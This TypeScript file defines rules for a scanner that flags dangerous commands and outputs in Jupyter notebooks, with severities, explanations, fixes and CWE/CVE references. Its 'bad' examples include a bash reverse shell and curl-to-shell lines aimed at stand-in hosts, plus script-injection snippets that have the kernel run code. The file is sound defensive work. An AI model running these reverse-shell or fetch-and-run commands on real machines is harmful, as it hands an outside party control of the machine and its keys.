const CWE_494 = { id: 'CWE-494', url: 'https://cwe.mitre.org/data/definitions/494.html' } as const;
const CWE_829 = { id: 'CWE-829', url: 'https://cwe.mitre.org/data/definitions/829.html' } as const;
const CWE_79 = { id: 'CWE-79', url: 'https://cwe.mitre.org/data/definitions/79.html' } as const;
const CWE_506 = { id: 'CWE-506', url: 'https://cwe.mitre.org/data/definitions/506.html' } as const;
const SUPPLY_CHAIN = { id: 'OWASP-LLM03' } as const;
const WHY_RUN =
  'A notebook is run cell by cell by people who came for the explanation. Its commands run with all their rights, keys and data.';

export const RULES = {
  'hostile-command': {
    title: 'Notebook attacks the machine it runs on',
    severity: 'critical',
    message: 'cell {cell} has a command that {what}',
    why: WHY_RUN,
    fix: 'Do not run the notebook. If it ran, treat the machine and every key on it as taken over.',
    references: [CWE_506, { id: 'AML.T0011', url: 'https://atlas.mitre.org/techniques/AML.T0011' }],
    example: {
      bad: '!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
      good: '!nvidia-smi',
    },
  },
  'unsafe-program': {
    title: 'Notebook runs a program from an address nobody vouches for',
    severity: 'high',
    message: 'cell {cell} fetches {what} and runs it at once',
    why: `${WHY_RUN} The address is not protected, or says nothing about who is behind it: anybody may answer there.`,
    fix: 'Do not run the cell. Fetch the file, read it, and run a copy that you keep.',
    references: [CWE_494, CWE_506, SUPPLY_CHAIN],
    example: { bad: '!curl http://192.0.2.1/x | sh', good: '!pip install torch==2.8.0' },
  },
  'piped-program': {
    title: 'Notebook runs a program straight from the network',
    severity: 'medium',
    message: 'cell {cell} fetches {what} and runs it at once',
    why: `${WHY_RUN} What stands at that address today need not stand there tomorrow, and nobody sees what ran.`,
    fix: 'Fetch the file, compare its digest with one you know, then run it.',
    references: [CWE_494, SUPPLY_CHAIN],
    example: {
      bad: '!curl -fsSL https://example.test/install.sh | sh',
      good: '!sha256sum -c install.sh.sha256 && sh install.sh',
    },
  },
  'foreign-index': {
    title: 'Notebook installs from an unusual place',
    severity: 'medium',
    message: 'cell {cell} installs packages from {what}',
    why: 'An installation runs code of the package. A further index can answer for every name with a higher version, and a bare address has no name that anybody looks after.',
    fix: 'Install from the usual index with pinned versions, or from a mirror of your own.',
    references: [
      { id: 'CWE-427', url: 'https://cwe.mitre.org/data/definitions/427.html' },
      CWE_829,
      SUPPLY_CHAIN,
    ],
    example: {
      bad: '%pip install --extra-index-url http://example.test/ x',
      good: '%pip install x==1.2.3',
    },
  },
  'source-install': {
    title: 'Notebook installs from a repository',
    severity: 'low',
    message: 'cell {cell} installs {what}',
    why: 'The newest state of the branch is installed, whatever that is on the day the notebook is run.',
    fix: 'Add a commit to the address: git+https://…@<commit>.',
    references: [CWE_829, SUPPLY_CHAIN],
    example: {
      bad: '!pip install git+https://example.test/x.git',
      good: '!pip install git+https://example.test/x.git@0123456789abcdef0123456789abcdef01234567',
    },
  },
  'kernel-code': {
    title: 'Output has the notebook run code',
    severity: 'high',
    message: '{where} of cell {cell} has the kernel execute {what}',
    why: 'Scripts in outputs run when a trusted notebook is opened, and may ask the kernel to run any code: nobody has to run a cell.',
    fix: 'Clear all outputs before you open the notebook: jupyter nbconvert --clear-output --inplace <file>.',
    references: [
      CWE_79,
      { id: 'CVE-2021-32798', url: 'https://nvd.nist.gov/vuln/detail/CVE-2021-32798' },
    ],
    example: {
      bad: '<script>Jupyter.notebook.kernel.execute("import os; os.system(…)")</script>',
      good: '<table>…</table>',
    },
  },
  'script-handler': {
    title: 'Markup that runs a script when it is shown',
    severity: 'high',
    message: '{where} of cell {cell} runs a script without a click: {what}',
    why: 'Attributes such as onerror and onload run when a viewer shows the notebook, for example on a site that renders notebooks or in an editor. No plotting library writes them.',
    fix: 'Clear all outputs: jupyter nbconvert --clear-output --inplace <file>. Do not open the notebook in a viewer that shows them.',
    references: [
      CWE_79,
      { id: 'CVE-2021-32797', url: 'https://nvd.nist.gov/vuln/detail/CVE-2021-32797' },
    ],
    example: { bad: '<img src=x onerror="fetch(…)">', good: '<img src="plot.png">' },
  },
  'script-link': {
    title: 'Link that runs a script',
    severity: 'medium',
    message: '{where} of cell {cell} has a link that runs a script: {what}',
    why: 'A click on the link runs the script in the viewer, with the rights of whoever is logged in there.',
    fix: 'Clear all outputs, or remove the link.',
    references: [CWE_79],
    example: { bad: '<a href="javascript:…">', good: '<a href="https://example.test/">' },
  },
  'foreign-script': {
    title: 'Output loads a script from an unusual place',
    severity: 'medium',
    message: '{where} of cell {cell} loads the script {what}',
    why: 'The script runs when the output is shown. Plotting libraries load theirs from a few well-known places; this is none of them.',
    fix: 'Clear all outputs: jupyter nbconvert --clear-output --inplace <file>.',
    references: [CWE_79, CWE_829],
    example: {
      bad: '<script src="https://example.test/x.js">',
      good: '<script src="https://cdn.plot.ly/plotly-3.0.0.min.js">',
    },
  },
  'foreign-frame': {
    title: 'Output shows a foreign page',
    severity: 'low',
    message: '{where} of cell {cell} shows the page {what}',
    why: 'The page is loaded when the notebook is shown: its owner learns who opens the notebook, and decides what is seen there.',
    fix: 'Clear all outputs, or replace the frame by a picture.',
    references: [CWE_829],
    example: {
      bad: '<iframe src="https://example.test/">',
      good: '<img src="data:image/png;base64,…">',
    },
  },
} as const;
